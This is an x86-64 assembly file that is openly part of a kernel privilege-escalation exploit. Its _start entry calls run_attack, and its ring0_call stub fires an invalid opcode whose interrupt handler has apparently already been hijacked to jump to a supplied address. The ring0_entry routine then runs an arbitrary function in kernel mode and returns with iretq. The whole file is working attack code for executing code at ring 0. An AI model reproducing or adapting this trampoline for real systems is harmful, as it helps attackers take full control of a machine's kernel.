/*
 * The first instruction of a hostile program, its way into ring 0, and back.
 * Source: System V ABI, AMD64 supplement, 3.4.1; Intel SDM volume 3, 6.14.
 */
        .globl _start
_start: xor %ebp, %ebp
        mov %rsp, %rdi
        and $-16, %rsp
        call run_attack
        ud2

/*
 * ring0_call(function, argument): the ring-0 stub's slot for invalid opcodes is
 * by now a jump to rax.
 */
        .globl ring0_call
ring0_call:
        lea ring0_entry(%rip), %rax
        ud2
        ret

/* In ring 0, on its own stack: back behind the ud2 of 2 bytes. */
ring0_entry:
        push %rbp
        mov %rsp, %rbp
        mov %rdi, %rax
        mov %rsi, %rdi
        and $-16, %rsp
        call *%rax
        mov %rbp, %rsp
        pop %rbp
        addq $2, (%rsp)
        iretq

        .section .note.GNU-stack, "", @progbits
